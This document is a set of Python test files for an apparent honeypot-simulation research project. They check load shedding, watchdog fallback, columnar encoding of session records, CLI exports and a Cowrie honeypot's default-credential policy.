        assert SHED in forward.values() and DEFER in forward.values()

    def test_full_queue_sheds(self):
        gate = self.controller(budget=0, capacity=1)
        assert gate.offer(file_record(0, "f-0")) == DEFER
        assert gate.offer(file_record(1, "f-1")) == SHED

    def test_drain_is_sorted_by_sensor_and_resets_budget(self):
        gate = self.controller(budget=0, capacity=4)
        late = file_record(0, "f-b1", honeypot_id="hp-001")
        early = file_record(1, "f-a1", honeypot_id="hp-000")
        later = file_record(2, "f-b2", honeypot_id="hp-001")
        for record in (late, early, later):
            assert gate.offer(record) == DEFER
        assert gate.drain() == [early, late, later]
        assert gate.drain() == []
        # Budget reset: the next day admits again.
        gate.budget = 1
        assert gate.offer(make_record(3, "s-next")) == ADMIT

    def test_builder_returns_none_when_unbounded(self):
        tree = RngTree(1)
        assert build_admission_controller(None, tree) is None
        assert build_admission_controller(FloodFaults(), tree) is None
        floods_only = FloodFaults(burst_probability=0.5, burst_sessions=10)
        assert build_admission_controller(floods_only, tree) is None

    def test_builder_wires_the_preset(self):
        gate = build_admission_controller(
            FloodFaults.from_name("burst"), RngTree(1)
        )
        assert gate.budget == 200
        assert gate.queue_capacity == 8
        assert gate.shed_probability == 0.4


class TestCollectorGate:
    def gated_collector(self, budget=2):
        return Collector(
            outages=(),
            admission=AdmissionController(
                budget=budget,
                queue_capacity=8,
                shed_probability=1.0,
                tree=RngTree(7).child("overload"),
            ),
        )

    def test_shed_is_a_terminal_bucket(self):
        collector = self.gated_collector(budget=2)
        for index in range(4):
            collector.ingest(make_record(index, f"s-{index}"))
        accounting = collector.accounting()
        assert accounting["admitted"] == 2
        assert accounting["shed"] == 2
        assert accounting["stored"] == 2
        assert collector.accounting_balanced()

    def test_deferred_records_land_at_end_of_day(self):
        collector = self.gated_collector(budget=1)
        collector.ingest(make_record(0, "s-0"))
        collector.ingest(file_record(1, "f-0"))
        assert collector.deferred == 1
        assert len(collector.sessions) == 1
        assert collector.end_of_day() == 1
        assert len(collector.sessions) == 2
        assert collector.admitted == 2
        assert collector.accounting_balanced()

    def test_admitted_counts_events_not_a_bucket(self):
        """admitted == stored + deduplicated when every record passes
        through the gate (a duplicate is admitted, then deduplicated)."""
        collector = self.gated_collector(budget=10)
        collector.ingest(make_record(0, "dup"))
        collector.ingest(make_record(1, "dup"))
        accounting = collector.accounting()
        assert accounting["admitted"] == 2
        assert accounting["stored"] == 1
        assert accounting["deduplicated"] == 1
        assert collector.accounting_balanced()

    def test_ungated_collector_unchanged(self):
        collector = Collector(outages=())
        collector.ingest(make_record(0, "s-0"))
        assert collector.end_of_day() == 0
        accounting = collector.accounting()
        assert accounting["admitted"] == 0
        assert accounting["shed"] == 0
        assert accounting["deferred"] == 0


@pytest.fixture(scope="module")
def flood_baselines():
    """One serial reference run per flood preset (shared, read-only)."""
    return {
        preset: run_simulation(flood_config(preset))
        for preset in ("burst", "storm")
    }


def assert_flood_equivalent(parallel, serial):
    assert parallel.database.digest() == serial.database.digest()
    assert parallel.collector.accounting() == serial.collector.accounting()
    assert parallel.collector.accounting_balanced()


@pytest.mark.parallel
class TestFloodDifferential:
    """Serial ≡ parallel under flood, for every preset and worker count."""

    @pytest.mark.parametrize(
        "preset,workers", [("burst", 2), ("burst", 4), ("storm", 2)]
    )
    def test_digest_identical_to_serial(
        self, flood_baselines, preset, workers
    ):
        parallel = run_simulation(flood_config(preset), workers=workers)
        assert_flood_equivalent(parallel, flood_baselines[preset])

    def test_burst_actually_sheds(self, flood_baselines):
        collector = flood_baselines["burst"].collector
        assert collector.shed > 0
        assert collector.admitted == (
            len(collector.sessions) + collector.deduplicated
        )

    def test_storm_exercises_deferral(self, flood_baselines):
        assert flood_baselines["storm"].collector.deferred > 0

    def test_flood_checkpoint_resume_matches(self, tmp_path, flood_baselines):
        config = flood_config("burst")
        checkpoint = tmp_path / "flood.ckpt"
        run_simulation(
            config,
            workers=2,
            checkpoint_path=checkpoint,
            checkpoint_every_days=7,
            stop_after=date(2023, 10, 2),
        )
        resumed = run_simulation(
            config, workers=2, checkpoint_path=checkpoint, resume=True
        )
        assert resumed.database.digest() == (
            flood_baselines["burst"].database.digest()
        )

    def test_watchdog_off_path_is_byte_identical(self, flood_baselines):
        """A generous deadline changes nothing about the bytes."""
        parallel = run_simulation(
            flood_config("burst").replace(shard_deadline_s=600.0), workers=2
        )
        assert_flood_equivalent(parallel, flood_baselines["burst"])


class TestFloodOffIsByteIdentical:
    """Flood disabled ⇒ every pre-overload artifact byte survives."""

    def test_checkpoint_counters_section_unchanged(self, tmp_path):
        config = short_fault_config("paper")
        checkpoint = tmp_path / "quiet.ckpt"
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=10,
            stop_after=date(2023, 10, 2),
        )
        document = json.loads(checkpoint.read_text())
        counters = document["counters"]
        for key in ("admitted", "shed", "deferred"):
            assert key not in counters
        assert document["fingerprint"] == config_fingerprint(config)

    def test_flooded_checkpoint_carries_the_ledger(self, tmp_path):
        config = flood_config("burst")
        checkpoint = tmp_path / "flooded.ckpt"
        run_simulation(
            config,
            checkpoint_path=checkpoint,
            checkpoint_every_days=10,
            stop_after=date(2023, 10, 2),
        )
        counters = read_checkpoint_counters(checkpoint)
        assert counters["shed"] > 0
        assert counters["generated"] == (
            counters["stored"]
            + counters.get("dropped_outage", 0)
            + counters.get("dropped_sensor_down", 0)
            + counters.get("dead_lettered", 0)
            + counters.get("deduplicated", 0)
            + counters.get("quarantined", 0)
            + counters.get("shed", 0)
        )


class TestWatchdogPolicy:
    def test_soft_deadline_is_a_fraction_of_hard(self):
        policy = DeadlinePolicy(hard_s=10.0)
        assert policy.soft_s == 5.0

    def test_validation(self):
        with pytest.raises(ValueError, match="hard_s"):
            DeadlinePolicy(hard_s=0.0)
        with pytest.raises(ValueError, match="soft_fraction"):
            DeadlinePolicy(hard_s=1.0, soft_fraction=0.0)
        with pytest.raises(ValueError, match="soft_fraction"):
            DeadlinePolicy(hard_s=1.0, soft_fraction=1.5)

    def test_from_deadline(self):
        assert DeadlinePolicy.from_deadline(None) is None
        policy = DeadlinePolicy.from_deadline(42)
        assert policy.hard_s == 42.0


def hang_config(
    end: date = date(2023, 3, 4),
    crash_probability: float = 0.0,
    hang_seconds: float = 0.05,
    **config_kwargs,
) -> SimulationConfig:
    """A tiny window whose every shard attempt hangs (and maybe crashes)."""
    return SimulationConfig(
        seed=5,
        scale=1e-4,
        start=date(2023, 3, 1),
        end=end,
        faults=dataclasses.replace(
            FaultProfile.none(),
            integrity=IntegrityFaults(
                worker_crash_probability=crash_probability,
                worker_hang_probability=1.0,
                worker_hang_seconds=hang_seconds,
            ),
        ),
        **config_kwargs,
    )


@pytest.mark.parallel
class TestWatchdog:
    def test_hung_shards_fall_back_to_serial(self):
        """Certain hangs on every attempt — including the final shard —
        still produce the serial bytes via the fallback ladder."""
        from repro import telemetry

        config = hang_config()
        serial = run_simulation(config)
        with telemetry.collecting() as registry:
            parallel = run_simulation(config, workers=2)
        assert parallel.database.digest() == serial.database.digest()
        counters = registry.export()["counters"]
        assert counters["parallel.worker_hangs"] >= 1
        assert counters["parallel.serial_fallbacks"] >= 1

    def test_hang_during_serial_fallback_hard_deadline_still_fires(self):
        """The fallback is below the ladder: its hard breach is terminal."""
        from repro import telemetry

        config = hang_config(hang_seconds=1.5, shard_deadline_s=0.4)
        started = time.monotonic()
        with telemetry.collecting() as registry:
            with pytest.raises(ShardDeadlineExceeded):
                run_simulation(config, workers=2)
        elapsed = time.monotonic() - started
        # 3 pooled attempts + the fallback, each bounded by the 0.4s
        # hard deadline, plus pool startup/teardown — nowhere near the
        # 1.5s-per-attempt the stalls would cost unsupervised.
        assert elapsed < 30.0
        counters = registry.export()["counters"]
        assert counters["overload.watchdog.soft_breaches"] >= 1
        assert counters["overload.watchdog.hard_breaches"] >= 1

    def test_watchdog_cancels_hung_attempts(self):
        """With a deadline shorter than the stall, attempts are cancelled
        (not waited out) and the fallback still reproduces the bytes —
        the stall is shorter than the deadline here, so the fallback's
        own stall fits inside its deadline window."""
        from repro import telemetry

        config = hang_config(hang_seconds=2.0, shard_deadline_s=8.0)
        serial = run_simulation(config.replace(shard_deadline_s=None))
        with telemetry.collecting() as registry:
            parallel = run_simulation(config, workers=2)
        assert parallel.database.digest() == serial.database.digest()
        counters = registry.export()["counters"]
        # Each 2s stall trips the 4s soft deadline? No — soft is half of
        # 8s = 4s, and a shard is a two-day sim plus one 2s stall, well
        # inside it.  The hangs surface as WorkerHang deaths instead.
        assert counters["parallel.worker_hangs"] >= 1
        assert counters["parallel.serial_fallbacks"] >= 1
        assert "overload.watchdog.hard_breaches" not in counters

    def test_hang_and_crash_cofire_on_the_same_shard(self):
        """Both faults certain on every attempt: whichever fires first,
        the ladder still lands on the serial bytes."""
        config = hang_config(crash_probability=1.0)
        serial = run_simulation(config)
        parallel = run_simulation(config, workers=2)
        assert parallel.database.digest() == serial.database.digest()

    def test_healthy_run_with_deadline_has_no_breaches(self, serial_baselines):
        from repro import telemetry

        config = short_fault_config("paper").replace(shard_deadline_s=600.0)
        with telemetry.collecting() as registry:
            parallel = run_simulation(config, workers=2)
        assert parallel.database.digest() == (
            serial_baselines["paper"].database.digest()
        )
        counters = registry.export()["counters"]
        assert not any(key.startswith("overload.watchdog") for key in counters)


class TestOverloadProperties:
    """Hypothesis sweeps over flood intensity and worker count."""

    @given(
        budget=st.integers(min_value=0, max_value=250),
        shed_probability=st.sampled_from([0.0, 0.5, 1.0]),
        workers=st.sampled_from([1, 2]),
    )
    @settings(max_examples=6, deadline=None)
    def test_conservation_law_under_flood(
        self, budget, shed_probability, workers
    ):
        config = tiny_flood_config(
            budget=budget, shed_probability=shed_probability
        )
        result = run_simulation(config, workers=workers)
        collector = result.collector
        assert collector.accounting_balanced()
        assert collector.admitted == (
            len(collector.sessions) + collector.deduplicated
        )
        accounting = collector.accounting()
        assert accounting["generated"] == (
            accounting["stored"]
            + accounting["dropped_outage"]
            + accounting["dropped_sensor_down"]
            + accounting["dead_lettered"]
            + accounting["deduplicated"]
            + accounting["quarantined"]
            + accounting["shed"]
        )

    @given(
        seed=st.integers(min_value=0, max_value=2**16),
        workers=st.sampled_from([2, 3]),
    )
    @settings(max_examples=5, deadline=None)
    def test_shedding_is_order_independent_across_shard_merges(
        self, seed, workers
    ):
        """However the window is sharded, the shed ledger — and every
        byte — matches the serial run: admission is per-day pure."""
        config = tiny_flood_config(seed=seed)
        serial = run_simulation(config)
        parallel = run_simulation(config, workers=workers)
        assert parallel.database.digest() == serial.database.digest()
        assert parallel.collector.accounting() == serial.collector.accounting()


class TestVerifyAudit:
    def test_shed_totals_reported_and_balanced(self, tmp_path):
        from repro.integrity.verify import audit_tree

        config = tiny_flood_config()
        run_simulation(
            config,
            checkpoint_path=tmp_path / "flood.ckpt",
            checkpoint_every_days=2,
        )
        audit = audit_tree(tmp_path)
        assert audit.ok
        assert audit.records_shed > 0
        assert "shed by admission control" in audit.render()
        assert json.loads(audit.to_json())["records_shed"] == audit.records_shed

    def test_unbalanced_counters_fail_the_audit(self, tmp_path):
        from repro.integrity.verify import audit_tree

        config = tiny_flood_config()
        result = run_simulation(config)
        # Cook the books: bytes stay valid, the conservation law breaks.
        result.collector.generated += 7
        save_checkpoint(
            tmp_path / "cooked.ckpt",
            config,
            config.end,
            result.honeynet,
            result.collector,
        )
        audit = audit_tree(tmp_path)
        assert not audit.ok
        (finding,) = audit.unexplained()
        assert "does not balance" in finding.detail

    def test_quiet_run_reports_no_shed(self, tmp_path):
        from repro.integrity.verify import audit_tree

        config = short_fault_config("paper")
        run_simulation(
            config,
            checkpoint_path=tmp_path / "quiet.ckpt",
            checkpoint_every_days=20,
            stop_after=date(2023, 10, 2),
        )
        audit = audit_tree(tmp_path)
        assert audit.ok
        assert audit.records_shed == 0
        assert "shed by admission control" not in audit.render()


class TestCoverageCeiling:
    def test_overload_note(self):
        assert overload_note(0, 100) is None
        note = overload_note(25, 100)
        assert "25 of 100" in note and "25.00%" in note

    def test_shed_ceiling_enforced(self, tiny_result):
        report = tiny_result.coverage
        fine = {"generated": 100, "shed": 50}
        validate_coverage(report, accounting=fine)
        drowned = {"generated": 100, "shed": 90}
        with pytest.raises(CoverageError, match="admission control shed"):
            validate_coverage(report, accounting=drowned)

    def test_burst_dataset_builds_and_annotates(self):
        from repro.experiments.dataset import build_dataset

        dataset = build_dataset(flood_config("burst"))
        notes = dataset.coverage_notes()
        assert any(note.startswith("overload:") for note in notes)

    def test_storm_dataset_is_rejected(self):
        """~93% shed is a stress artifact, not a dataset."""
        from repro.experiments.dataset import build_dataset

        with pytest.raises(CoverageError, match="admission control shed"):
            build_dataset(flood_config("storm"), use_cache=False)


class TestCliWiring:
    def parse(self, *argv):
        from repro.cli import _config, build_parser

        args = build_parser().parse_args(["stats", *argv])
        return _config(args)

    def test_flood_profile_composes_onto_fault_profile(self):
        config = self.parse(
            "--fault-profile", "stress", "--flood-profile", "storm"
        )
        assert config.faults.name == "stress"
        assert config.faults.flood == FloodFaults.from_name("storm")

    def test_flood_defaults_off(self):
        config = self.parse("--fault-profile", "paper")
        assert config.faults.flood.inert
        assert config.shard_deadline_s is None

    def test_shard_deadline_flag(self):
        config = self.parse("--shard-deadline-s", "120")
        assert config.shard_deadline_s == 120.0
