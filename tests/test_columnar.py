"""Columnar hot path: codec properties, RNG batching, cross-matrix leg.

Three layers of proof that the columnar refactor cannot move a byte:

* **Codec properties** (hypothesis) — record → columns → record is the
  identity, including unicode command strings, ``None`` markers and
  edge-case timestamps, and the decoded scalars are pure Python types.
* **RNG equivalence** — the per-day batched draws (`_route_draws`,
  ``RngTree.rand_for``/``coin``, the ``batched_*`` helpers) reproduce
  the per-session draw sequences exactly, for arbitrary counts.
* **Cross-matrix differential** — columnar IPC × every fault profile ×
  {serial, 2 workers} produce equal digests and conservation counters.
  Columnar buffers are the only IPC format; the codec property layer
  above is what proves the round-trip an identity, so no object-graph
  oracle is needed.

Marked ``columnar`` so CI can run this suite as its own job leg
(``pytest -m columnar``).
"""

from __future__ import annotations

import pickle
import random
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attackers.base import Bot
from repro.attackers.orchestrator import (
    _route_draws,
    build_substrate,
    count_day,
    run_simulation,
    simulate_day,
)
from repro.cli import check_bench_floors
from repro.config import SimulationConfig
from repro.honeynet.columnar import ColumnBatch, StringColumn
from repro.honeynet.io import session_to_dict
from repro.honeypot.session import (
    CommandRecord,
    FileEvent,
    FileOp,
    LoginAttempt,
    Protocol,
    SessionRecord,
)
from repro.util.rng import (
    RngTree,
    batched_random,
    batched_randrange,
    batched_uniform,
)
from tests.conftest import PROFILES, short_fault_config
from tests.test_parallel import assert_equivalent

pytestmark = pytest.mark.columnar


# ----------------------------------------------------------------------
# hypothesis strategies for arbitrary-but-valid session records
# ----------------------------------------------------------------------

# Unrestricted unicode (including astral-plane code points, so the
# char-offset slicing path is exercised) but no surrogates, which UTF-8
# cannot encode.
TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=24
)
MAYBE_TEXT = st.one_of(st.none(), TEXT)
# Edge timestamps: zero, negative, sub-second fractions, far future —
# IEEE-754 doubles must survive the numpy round trip bit-for-bit.
TIMESTAMP = st.one_of(
    st.floats(allow_nan=False, allow_infinity=False, width=64),
    st.sampled_from([0.0, -0.0, 1e-9, -1.0, 2**53 - 1.0, 1893456000.5]),
)

LOGIN = st.builds(LoginAttempt, TEXT, TEXT, st.booleans())
COMMAND = st.builds(CommandRecord, TEXT, st.booleans(), TEXT)
EVENT = st.builds(
    FileEvent, TEXT, st.sampled_from(list(FileOp)), MAYBE_TEXT, TEXT
)

RECORD = st.builds(
    SessionRecord,
    session_id=TEXT,
    honeypot_id=TEXT,
    honeypot_ip=TEXT,
    honeypot_port=st.integers(0, 65535),
    protocol=st.sampled_from(list(Protocol)),
    client_ip=TEXT,
    client_port=st.integers(0, 65535),
    start=TIMESTAMP,
    end=TIMESTAMP,
    ssh_version=MAYBE_TEXT,
    logins=st.lists(LOGIN, max_size=4),
    commands=st.lists(COMMAND, max_size=4),
    uris=st.lists(TEXT, max_size=3),
    file_events=st.lists(EVENT, max_size=3),
    timed_out=st.booleans(),
    bot_label=MAYBE_TEXT,
)


class TestStringColumn:
    @given(st.lists(TEXT, max_size=30))
    @settings(max_examples=100)
    def test_round_trip(self, values):
        assert StringColumn.encode(values).values() == values

    @given(st.lists(MAYBE_TEXT, max_size=30))
    @settings(max_examples=100)
    def test_nullable_round_trip(self, values):
        assert StringColumn.encode(values).values() == values

    def test_unicode_slicing_uses_char_offsets(self):
        values = ["naïve", "командa", "🐚shell", "", "ascii"]
        column = StringColumn.encode(values)
        assert column.char_offsets is not None
        assert column.values() == values

    def test_ascii_skips_char_offsets(self):
        column = StringColumn.encode(["plain", "ascii", ""])
        assert column.char_offsets is None

    def test_len_and_nbytes(self):
        column = StringColumn.encode(["ab", "c"])
        assert len(column) == 2
        assert column.nbytes >= 3


class TestColumnBatchRoundTrip:
    @given(st.lists(RECORD, max_size=12))
    @settings(max_examples=100, deadline=None)
    def test_identity(self, records):
        batch = ColumnBatch.from_records(records)
        assert len(batch) == len(records)
        assert batch.to_records() == records

    @given(st.lists(RECORD, max_size=6))
    @settings(max_examples=50, deadline=None)
    def test_identity_through_pickle(self, records):
        # The actual IPC path: encode, pickle, unpickle, decode.
        batch = pickle.loads(pickle.dumps(ColumnBatch.from_records(records)))
        assert batch.to_records() == records

    @given(st.lists(RECORD, max_size=6))
    @settings(max_examples=50, deadline=None)
    def test_decoded_scalars_are_pure_python(self, records):
        # numpy scalars leaking into records would break json digests.
        for decoded in ColumnBatch.from_records(records).to_records():
            assert type(decoded.honeypot_port) is int
            assert type(decoded.client_port) is int
            assert type(decoded.start) is float
            assert type(decoded.end) is float
            assert type(decoded.timed_out) is bool
            assert isinstance(decoded.protocol, Protocol)
            for event in decoded.file_events:
                assert isinstance(event.op, FileOp)
            session_to_dict(decoded)  # json-serializable end to end

    @given(st.lists(RECORD, max_size=8))
    @settings(max_examples=50, deadline=None)
    def test_session_ids_match_records(self, records):
        batch = ColumnBatch.from_records(records)
        assert batch.session_ids() == [r.session_id for r in records]

    def test_empty_batch(self):
        batch = ColumnBatch.from_records([])
        assert len(batch) == 0
        assert batch.to_records() == []
        assert batch.session_ids() == []


# ----------------------------------------------------------------------
# RNG batching: batched draws ≡ per-session draw sequences
# ----------------------------------------------------------------------


class TestRngBatching:
    @given(st.integers(), st.integers(0, 500))
    @settings(max_examples=50)
    def test_batched_random_matches_sequence(self, seed, n):
        a, b = random.Random(seed), random.Random(seed)
        assert batched_random(a, n) == [b.random() for _ in range(n)]
        assert a.random() == b.random()  # generator state advanced equally

    @given(st.integers(), st.integers(0, 500))
    @settings(max_examples=50)
    def test_batched_uniform_matches_sequence(self, seed, n):
        a, b = random.Random(seed), random.Random(seed)
        assert batched_uniform(a, n, 0.0, 86_400.0) == [
            b.uniform(0.0, 86_400.0) for _ in range(n)
        ]

    @given(st.integers(), st.integers(0, 500), st.integers(1, 97))
    @settings(max_examples=50)
    def test_batched_randrange_matches_sequence(self, seed, n, stop):
        a, b = random.Random(seed), random.Random(seed)
        assert batched_randrange(a, n, stop) == [
            b.randrange(stop) for _ in range(n)
        ]

    @given(st.integers(0, 2**32), st.text(max_size=10))
    @settings(max_examples=50)
    def test_rand_for_equals_child_rand(self, seed, name):
        tree = RngTree(seed).child("x")
        assert tree.rand_for(name).random() == tree.child(name).rand().random()

    @given(st.integers(0, 2**32), st.text(max_size=10))
    @settings(max_examples=50)
    def test_coin_is_first_child_draw(self, seed, name):
        tree = RngTree(seed)
        assert tree.coin(name) == tree.child(name).rand().random()

    @given(st.integers(0, 2**32), st.integers(0, 400), st.integers(1, 40))
    @settings(max_examples=50)
    def test_route_draws_match_per_session_calls(self, seed, n, fleet_size):
        """The batched route stream is the interleaved per-session one."""

        class _Probe(Bot):
            def __init__(self):  # no activity model needed here
                self.name = "probe"

        bot = _Probe()
        day = date(2023, 1, 1)
        batched_rng = random.Random(seed)
        indices, seconds = _route_draws(bot, batched_rng, n, fleet_size, day)
        reference = random.Random(seed)
        for i in range(n):
            assert indices[i] == bot.choose_honeypot_index(
                reference, fleet_size
            )
            assert seconds[i] == bot.start_seconds(reference, day)
        # Post-batch generator state is identical too.
        assert batched_rng.random() == reference.random()

    @given(st.integers(0, 2**32), st.integers(0, 100))
    @settings(max_examples=30)
    def test_route_draws_respect_overridden_hooks(self, seed, n):
        class _Biased(Bot):
            def __init__(self):
                self.name = "biased"

            def choose_honeypot_index(self, rng, fleet_size):
                return min(rng.randrange(fleet_size), 1)

            def start_seconds(self, rng, day):
                return rng.uniform(0, 3600)

        bot = _Biased()
        day = date(2023, 1, 1)
        indices, seconds = _route_draws(bot, random.Random(seed), n, 16, day)
        reference = random.Random(seed)
        for i in range(n):
            assert indices[i] == bot.choose_honeypot_index(reference, 16)
            assert seconds[i] == bot.start_seconds(reference, day)


class TestCountDayFastPath:
    """count_day's intent-free fast path equals the real day loop."""

    @pytest.mark.parametrize("profile", ("none", "stress"))
    def test_counts_equal_handled_sessions(self, profile):
        config = SimulationConfig(
            seed=5,
            scale=1e-4,
            start=date(2023, 9, 20),
            end=date(2023, 9, 26),
            faults=short_fault_config(profile).faults,
        )
        substrate = build_substrate(config)
        counted: dict[str, int] = {}
        for day in (
            date(2023, 9, 20),
            date(2023, 9, 21),
            date(2023, 9, 22),
        ):
            count_day(substrate, day, counted)
        handled: dict[str, int] = {}

        def record_only(record):
            handled[record.honeypot_id] = (
                handled.get(record.honeypot_id, 0) + 1
            )
            return True

        substrate = build_substrate(config)  # fresh counters
        for day in (
            date(2023, 9, 20),
            date(2023, 9, 21),
            date(2023, 9, 22),
        ):
            simulate_day(substrate, day, record_only)
        assert counted == handled

    def test_telnet_exclusion_falls_back_to_intents(self):
        config = SimulationConfig(
            seed=5,
            scale=1e-4,
            start=date(2023, 9, 20),
            end=date(2023, 9, 22),
            include_telnet=False,
        )
        substrate = build_substrate(config)
        counted: dict[str, int] = {}
        count_day(substrate, date(2023, 9, 20), counted)
        handled: dict[str, int] = {}
        substrate = build_substrate(config)
        simulate_day(
            substrate,
            date(2023, 9, 20),
            lambda record: handled.update(
                {
                    record.honeypot_id: handled.get(record.honeypot_id, 0)
                    + 1
                }
            )
            or True,
        )
        # Excluded-telnet intents are skipped by both loops, so the
        # intent-building fallback still matches the real loop exactly.
        assert counted == handled


# ----------------------------------------------------------------------
# shed-path: flood-off runs execute zero overload instrumentation
# ----------------------------------------------------------------------


class TestFloodOffShedPath:
    @pytest.mark.parametrize("profile", ("none", "paper"))
    def test_no_overload_metrics_without_flood(self, profile):
        from repro import telemetry

        config = short_fault_config(profile).replace(
            start=date(2023, 9, 15), end=date(2023, 9, 21)
        )
        with telemetry.collecting() as registry:
            result = run_simulation(config)
        assert result.collector.admission is None  # no gate, no coins
        counters = registry.export()["counters"]
        overload = [k for k in counters if k.startswith("overload.")]
        assert overload == []
        assert result.collector.admitted == 0
        assert result.collector.shed == 0
        assert result.collector.deferred == 0

    def test_flood_on_does_emit_overload_metrics(self):
        import dataclasses

        from repro import telemetry
        from repro.faults.plan import FloodFaults

        base = short_fault_config("stress").replace(
            start=date(2023, 9, 15), end=date(2023, 9, 21)
        )
        config = base.replace(
            faults=dataclasses.replace(
                base.faults, flood=FloodFaults.from_name("burst")
            )
        )
        with telemetry.collecting() as registry:
            result = run_simulation(config)
        assert result.collector.admission is not None
        counters = registry.export()["counters"]
        assert counters.get("overload.admitted", 0) > 0


# ----------------------------------------------------------------------
# cross-matrix differential: columnar IPC × profiles × engines
# ----------------------------------------------------------------------


class TestColumnarCrossMatrix:
    """Columnar IPC agrees with serial for every fault profile.

    Columnar buffers are the only shard IPC format; the codec property
    suite above proves the encode→decode round-trip an identity, and
    this matrix proves the merged result equal to the serial engine's.
    """

    @pytest.mark.parametrize("profile", PROFILES)
    def test_columnar_two_workers_equals_serial(
        self, serial_baselines, profile
    ):
        parallel = run_simulation(short_fault_config(profile), workers=2)
        assert_equivalent(parallel, serial_baselines[profile])

    def test_worker_outputs_are_column_batches(self, monkeypatch):
        """The wire really carries ColumnBatch, not record lists."""
        from repro.honeynet.collector import Collector

        seen: list[type] = []
        original = Collector.absorb_batch

        def spy(self, sessions, dead_letters, counters):
            seen.append(type(sessions))
            return original(self, sessions, dead_letters, counters)

        monkeypatch.setattr(Collector, "absorb_batch", spy)
        run_simulation(short_fault_config("none"), workers=2)
        assert seen and all(kind is ColumnBatch for kind in seen)


# ----------------------------------------------------------------------
# bench regression guard
# ----------------------------------------------------------------------


class TestBenchFloors:
    def _report(self, cpu_count=4, speedup=2.0, overhead=1.0):
        return {
            "workers": 2,
            "cpu_count": cpu_count,
            "day_loop": {"speedup": speedup, "digest_match": True},
            "telemetry": {"overhead_pct": overhead, "digest_match": True},
        }

    def test_healthy_report_passes(self):
        assert check_bench_floors(self._report()) == []

    def test_slow_parallel_fails_on_multicore(self):
        violations = check_bench_floors(self._report(speedup=1.2))
        assert len(violations) == 1
        assert "1.20x" in violations[0]

    def test_single_core_skips_speedup_floor(self):
        assert check_bench_floors(self._report(cpu_count=1, speedup=0.5)) == []

    def test_telemetry_overhead_fails(self):
        violations = check_bench_floors(self._report(overhead=6.3))
        assert violations and "6.30%" in violations[0]

    def test_custom_floors(self):
        report = self._report(speedup=1.5, overhead=4.0)
        assert check_bench_floors(report, speedup_floor=1.4) == []
        assert check_bench_floors(report, speedup_floor=1.6)
        assert check_bench_floors(report, telemetry_bar_pct=3.0)

    def test_both_floors_can_fail_together(self):
        violations = check_bench_floors(
            self._report(speedup=0.9, overhead=9.9)
        )
        assert len(violations) == 2
