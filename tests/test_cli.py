"""The CLI surface and result export formats."""

from __future__ import annotations

import json

import pytest

from repro.cli import build_parser, main
from repro.experiments.base import ExperimentResult


@pytest.fixture
def sample_result():
    return ExperimentResult(
        experiment_id="fig01",
        title="Sample",
        headers=["month", "value"],
        rows=[["2022-01", 5], ["2022-02", 7]],
        notes=["a note"],
    )


class TestExports:
    def test_to_records(self, sample_result):
        records = sample_result.to_records()
        assert records[0] == {"month": "2022-01", "value": 5}

    def test_to_json_roundtrip(self, sample_result):
        payload = json.loads(sample_result.to_json())
        assert payload["experiment_id"] == "fig01"
        assert payload["rows"][1] == ["2022-02", 7]
        assert payload["notes"] == ["a note"]

    def test_to_csv(self, sample_result):
        lines = sample_result.to_csv().strip().splitlines()
        assert lines[0] == "month,value"
        assert lines[1] == "2022-01,5"


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_defaults(self):
        args = build_parser().parse_args(["stats"])
        assert args.seed == 7

    def test_export_options(self):
        args = build_parser().parse_args(
            ["export", "--format", "csv", "--only", "fig01"]
        )
        assert args.format == "csv"
        assert args.only == ["fig01"]


class TestCommands:
    def test_stats_command(self, capsys, dataset):
        code = main(["stats"])  # reuses the cached default dataset
        assert code == 0
        assert "Dataset statistics" in capsys.readouterr().out

    def test_experiments_subset(self, capsys, dataset):
        code = main(["experiments", "--only", "table1"])
        assert code == 0
        output = capsys.readouterr().out
        assert "table1" in output and "fig09" not in output

    def test_experiments_unknown_id(self, capsys, dataset):
        code = main(["experiments", "--only", "nope"])
        assert code == 2

    def test_export_json(self, tmp_path, dataset):
        code = main(
            ["export", "--only", "table_stats", "--out", str(tmp_path)]
        )
        assert code == 0
        payload = json.loads((tmp_path / "table_stats.json").read_text())
        assert payload["experiment_id"] == "table_stats"

    def test_export_csv(self, tmp_path, dataset):
        code = main(
            [
                "export", "--only", "table_stats", "--format", "csv",
                "--out", str(tmp_path),
            ]
        )
        assert code == 0
        assert (tmp_path / "table_stats.csv").read_text().startswith("metric")
