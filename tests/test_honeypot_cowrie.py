"""The honeypot itself: auth policy, session records, busybox."""

from __future__ import annotations

import pytest

from repro.honeypot.auth import DEFAULT_POLICY, CredentialPolicy
from repro.honeypot.cowrie import MAX_LINES_PER_SESSION, CowrieHoneypot
from repro.honeypot.session import ConnectionIntent, FileOp, Protocol
from repro.honeypot.uri import extract_uris


@pytest.fixture
def honeypot():
    return CowrieHoneypot(honeypot_id="hp-test", ip="192.0.2.1")


class TestCredentialPolicy:
    @pytest.mark.parametrize(
        "username,password,expected",
        [
            ("root", "admin", True),
            ("root", "1234", True),
            ("root", "root", False),       # the one rejected root password
            ("root", "", True),
            ("phil", "anything", True),    # current Cowrie default
            ("richard", "richard", False), # pre-2020 default, removed
            ("admin", "admin", False),
            ("user", "user", False),
        ],
    )
    def test_policy_matrix(self, username, password, expected):
        assert DEFAULT_POLICY.accepts(username, password) is expected

    def test_fingerprint_usernames(self):
        assert DEFAULT_POLICY.is_fingerprint_username("phil")
        assert DEFAULT_POLICY.is_fingerprint_username("richard")
        assert not DEFAULT_POLICY.is_fingerprint_username("root")

    def test_custom_policy(self):
        policy = CredentialPolicy(default_accounts=frozenset())
        assert not policy.accepts("phil", "x")


class TestSessionHandling:
    def test_scanning_session(self, honeypot):
        record = honeypot.handle(ConnectionIntent(client_ip="1.1.1.1"), 0.0)
        assert record.logins == []
        assert not record.executed_commands

    def test_scouting_stops_without_success(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("admin", "admin"), ("root", "root")),
            command_lines=("uname -a",),
        )
        record = honeypot.handle(intent, 0.0)
        assert not record.login_succeeded
        assert record.commands == []  # commands never run without login

    def test_login_stops_at_first_success(self, honeypot):
        intent = ConnectionIntent(
            client_ip="1.1.1.1",
            credentials=(("root", "root"), ("root", "admin"), ("root", "x")),
        )
        record = honeypot.handle(intent, 0.0)
        assert len(record.logins) == 2
        assert record.successful_login.password == "admin"

